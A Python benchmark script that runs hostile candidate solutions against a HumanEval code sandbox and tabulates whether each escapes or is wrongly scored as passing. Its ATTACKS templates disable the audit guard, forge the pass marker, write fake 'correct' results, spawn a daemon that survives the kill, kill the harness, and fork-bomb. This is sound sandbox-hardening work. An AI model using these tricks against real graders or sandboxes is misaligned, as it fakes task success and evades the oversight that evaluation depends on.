"""Hostile HumanEval answers against the code sandbox: verdict, harness survival, leftovers, time.

  python -m bench.sandbox_attacks                # attack table + honest-solution timings
  python -m bench.sandbox_attacks --no-hook      # the same with the in-process audit hook off
  python -m bench.sandbox_attacks --isolation process   # today's weaker mode, for comparison

Each attack is a WRONG solution to HumanEval/0 (`has_close_elements`) that tries to
be scored as passed, or to do damage from inside the sandbox. Every attack runs
in its own harness process (`python -c ...` calling `run_tests`), so an attack
that kills its harness cannot take this script down. After each run it checks:
the harness exited normally, no sandboxed process is left (a `prelude.py`
command line), no file outside the sandbox changed. `ATTACKS` is also used by
tests/test_tasks_sandbox.py.
"""

from __future__ import annotations

import argparse
import json
import os
import re
import secrets
import statistics
import subprocess
import sys
import tempfile
import time

# Prefix shared by the attacks: switch the in-process guard off by rebinding the
# prelude's deny-lists through sys.modules["__main__"] (the old prelude's hook
# read them as module globals at every call).
_GUARD_OFF = """
import os, sys, time
_m = sys.modules.get("__main__")
for _name, _empty in (("_DENY", frozenset()), ("_DENY_IMPORTS", frozenset()),
                      ("_PATH_EVENTS", {}), ("_WRITE_FLAGS", 0)):
  try:
    setattr(_m, _name, _empty)
  except Exception:
    pass
def has_close_elements(numbers, threshold):
  return False
"""

# {name: (what it tries, candidate code template)}; {checkout}, {results}, {pwned}
# are filled with paths outside the sandbox, {tag} with a word that marks the
# command line of every process an attack leaves running.
ATTACKS = {
    "forge marker": ("find the 'tests finished' marker in the caller's frame locals, print it, "
                     "exit 0 before the tests", _GUARD_OFF + """
_f = sys._getframe()
while _f is not None:
  for _v in list(_f.f_locals.values()):
    if isinstance(_v, str) and len(_v) == 32 and all(c in "0123456789abcdef" for c in _v):
      sys.stdout.write("\\n" + _v + "\\n"); sys.stdout.flush(); os._exit(0)
  _f = _f.f_back
"""),
    "guard off": ("rebind the deny-lists through sys.modules['__main__'], then run a shell",
                  _GUARD_OFF + """
os.system("echo shell-ran")
"""),
    "daemon": ("double fork + setsid: a daemon that outlives the process-group kill, writes "
               "a file 1 s later and stays alive", _GUARD_OFF + """
if os.fork() == 0:
  os.setsid()
  if os.fork() == 0:
    os.execv(sys.executable, [sys.executable, "-c",
             "import os, time; time.sleep(1); "
             "fd = os.open(%r, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644); "
             "os.write(fd, b'daemon'); time.sleep(30)" % {pwned!r}, {tag!r}])
  os._exit(0)
time.sleep(0.2)
"""),
    "write checkout": ("append to a file in the checkout and to results.jsonl", _GUARD_OFF + """
for _p in ({checkout!r}, {results!r}):
  try:
    fd = os.open(_p, os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o644)
    os.write(fd, b'{"correct": true}\\n')
    os.close(fd)
  except OSError as e:
    print("write refused:", e, file=sys.stderr)
"""),
    "kill harness": ("SIGKILL the parent process (the harness)", _GUARD_OFF + """
import signal
os.kill(os.getppid(), signal.SIGKILL)
time.sleep(1)
"""),
    "fork bomb": ("fork up to 200 children that sleep (bounded, so the table is safe to make)",
                  _GUARD_OFF + """
_n = 0
for _ in range(200):
  try:
    _pid = os.fork()
  except OSError:
    break
  if _pid == 0:
    os.execv("/bin/sh", ["/bin/sh", "-c", "sleep 20; :", {tag!r}])
  _n += 1
print("forked", _n, file=sys.stderr)
"""),
}

def attack_code(name: str, **paths: str) -> str:
  """The candidate code of attack `name` with its {checkout}/{results}/{pwned}/{tag} filled in."""
  code = ATTACKS[name][1]
  for key, path in paths.items():
    code = code.replace("{" + key + "!r}", repr(path))
  return code


_HARNESS = """
import json, sys
from diffmas_jax.tasks.registry import load_task
from diffmas_jax.tasks.sandbox import run_tests
rec = load_task("humaneval", limit=1)[0]
cfg = json.loads(sys.argv[2])
if sys.argv[3] == "in-process":  # the MBPP-style path: tests in the candidate's process
  from diffmas_jax.tasks.sandbox import build_test_program, run_code
  r = run_code(build_test_program(open(sys.argv[1]).read(), rec), config=cfg, as_main=False)
else:
  r = run_tests(open(sys.argv[1]).read(), rec, config=cfg)
print(json.dumps({"passed": r.passed, "reason": r.reason, "elapsed_s": r.elapsed_s,
                  "stderr": r.stderr_tail, "stdout": r.stdout_tail}))
"""


def processes_with(word: str) -> list[int]:
  """Pids whose command line contains `word` (what an attack left running)."""
  pids = []
  for entry in os.listdir("/proc"):
    if entry.isdigit():
      try:
        with open(f"/proc/{entry}/cmdline", "rb") as f:
          if word.encode() in f.read():
            pids.append(int(entry))
      except OSError:
        pass
  return pids


def evidence(text: str) -> str:
  """What an attack reports about itself: 'shell-ran', 'forked N', 'write refused'."""
  return ", ".join(sorted(set(re.findall(r"shell-ran|forked \d+|write refused", text)))) or "-"


def _read(path: str) -> str:
  with open(path) as f:
    return f.read()


def run_attack(name: str, config: dict, python: str = sys.executable, verdict: str = "split",
               settle_s: float = 1.5) -> dict:
  """Runs one attack in a separate harness process; returns the row of the table.

  verdict: "split" = `run_tests` (HumanEval records get the separate judge when
  the installed sandbox has one); "in-process" = tests in the candidate's process.
  settle_s: wait before looking for leftovers (the daemon writes after 1 s).
  """
  with tempfile.TemporaryDirectory(prefix="attack-checkout-") as checkout:
    readme, results = os.path.join(checkout, "README.md"), os.path.join(checkout, "results.jsonl")
    pwned = os.path.join(checkout, "pwned")
    for path in (readme, results):
      with open(path, "w") as f:
        f.write("original\n")
    os.chmod(checkout, 0o777)  # so even an unprivileged uid could write here
    tag = "attack-" + secrets.token_hex(6)
    code = attack_code(name, checkout=readme, results=results, pwned=pwned, tag=tag)
    program = os.path.join(checkout, "candidate.py")
    with open(program, "w") as f:
      f.write(code)
    start = time.monotonic()
    proc = subprocess.run([python, "-c", _HARNESS, program, json.dumps(config), verdict],
                          capture_output=True, text=True, timeout=120)
    elapsed = time.monotonic() - start
    time.sleep(settle_s)
    left = processes_with(tag)
    for pid in left:  # clean up after a successful escape, so the next row starts clean
      try:
        os.kill(pid, 9)
      except OSError:
        pass
    changed = [os.path.basename(p) for p in (readme, results)
               if _read(p) != "original\n"] + (["pwned"] if os.path.exists(pwned) else [])
    row = {"attack": name, "harness_alive": proc.returncode == 0, "wall_s": round(elapsed, 2),
           "processes_left": len(left), "files_changed": changed}
    if proc.returncode == 0:
      row.update(json.loads(proc.stdout.strip().splitlines()[-1]))
      row["evidence"] = evidence(row["stdout"] + row["stderr"])
    else:
      row.update(passed=None, reason=f"harness died (exit {proc.returncode})",
                 stderr=proc.stderr[-300:], evidence="-")
    return row


def honest_timings(config: dict, runs: int = 5) -> list[float]:
  """Wall seconds of the canonical HumanEval/0 solution, `runs` times."""
  from diffmas_jax.tasks.registry import load_task
  from diffmas_jax.tasks.sandbox import run_tests
  rec = load_task("humaneval", limit=1)[0]
  times = []
  for _ in range(runs):
    result = run_tests(rec.gold, rec, config=config)
    assert result.passed, result
    times.append(result.elapsed_s)
  return times


def main():
  parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
  parser.add_argument("--no-hook", action="store_true", help="audit hook off")
  parser.add_argument("--isolation", default=None, help="SandboxConfig.isolation")
  parser.add_argument("--runs", type=int, default=5)
  parser.add_argument("--timing-only", action="store_true", help="skip the attacks")
  args = parser.parse_args()
  config = {"timeout_s": 5.0}
  if args.no_hook:
    config["audit_hook"] = False
  if args.isolation:
    config["isolation"] = args.isolation
  print(f"# load: {os.getloadavg()}  config: {config}")
  print("| attack | verdict | reason | attack says | harness alive | processes left | "
        "files changed | s |")
  print("|---|---|---|---|---|---|---|---|")
  rows = [] if args.timing_only else (
      [(name, "split") for name in ATTACKS] + [("forge marker", "in-process")])
  for name, verdict_path in rows:
    r = run_attack(name, config, verdict=verdict_path)
    verdict = {True: "PASSED (wrong)", False: "failed", None: "-"}[r["passed"]]
    label = name + (" (in-process verdict)" if verdict_path == "in-process" else "")
    print(f"| {label} | {verdict} | {r['reason'][:50]} | {r['evidence']} | {r['harness_alive']} "
          f"| {r['processes_left']} | {', '.join(r['files_changed']) or '-'} | {r['wall_s']} |",
          flush=True)
  times = honest_timings(config, args.runs)
  print(f"\nhonest HumanEval/0, {args.runs} runs: min {min(times):.3f} s, "
        f"median {statistics.median(times):.3f} s, max {max(times):.3f} s")


if __name__ == "__main__":
  main()
